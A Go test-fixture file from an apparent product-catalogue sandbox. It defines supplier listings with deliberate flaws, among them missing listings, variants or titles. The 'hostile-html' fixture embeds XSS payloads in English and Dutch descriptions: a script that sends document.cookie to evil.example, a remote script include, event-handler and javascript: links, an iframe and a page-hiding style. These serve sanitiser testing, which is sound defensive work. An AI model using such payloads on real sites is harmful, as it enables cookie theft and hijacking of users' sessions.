package sandbox

// oddCatalogue is what suppliers really send.
func oddCatalogue() []Template {
	return []Template{
		{Name: "hostile-html", Listing: &Listing{
			Brand: "Halmveld", Category: "GARDEN_DECORATION_LIGHTING", Returns: "true", Shipping: parcel(),
			Texts: inEnglishAndDutch(
				"Garden torch",
				"<p>Burns for six "+
					"hours.<script>document.location='https://evil.example/?c='+document.cookie</script></div></div>"+
					"<img src=x onerror=\"alert(1)\"><p onclick=\"alert(2)\">Wind-proof <b>wick"+
					"<a href=\"javascript:alert(3)\">More</a> <a href=\"&#106;avascript:alert(4)\">and more</a>"+
					"<iframe src=\"https://evil.example/\"></iframe><style>body{display:none}</style>"+
					"[gallery ids=\"1\"] [gallery ids=1] <svg onload=alert(5)><!-- <p> --><ul><li>Steel<li>Bamboo",
				"Tuinfakkel",
				"<p>Brandt zes uur.<script "+
					"src=\"//evil.example/x.js\"></script></table>[embed]https://evil.example[/embed] <i>Bestand "+
					"tegen wind",
			),
			Variants: only("HLM-TORCH", "5.60", "12.50", 17, Option{"Size", "90 cm"}),
			Pictures: pictures(1, Drop, "f08a24"),
		}},
		{Name: "no-listing", Flaw: "it has no listing"},
		{Name: "no-variants", Flaw: "it has no variants", Listing: &Listing{
			Brand: "Stap", Category: "FASHION_CLOTHES_SOCKS", Returns: "true", Shipping: parcel(),
			Texts: inEnglishAndDutch(
				"Slippers, felt", "<p>The supplier is between two deliveries.</p>",
				"Vilten pantoffels", "<p>De leverancier zit tussen twee leveringen in.</p>"),
			Pictures: pictures(1, Disc, "8c8c8c"),
		}},
		{Name: "no-title", Flaw: "it has no title in any language", Listing: &Listing{
			Brand: "Papierwinkel", Category: "HOME_LIVING_STATIONERY", Shipping: parcel(),
			Texts:    map[string]Text{"en": {"", "<p>A description without a title.</p>"}, "nl": {}},
			Variants: only("PPW-NONE", "1.00", "2.50", 3, Option{"Option", "One"}),
			Pictures: pictures(1, Box, "444444"),
		}},
	}
}
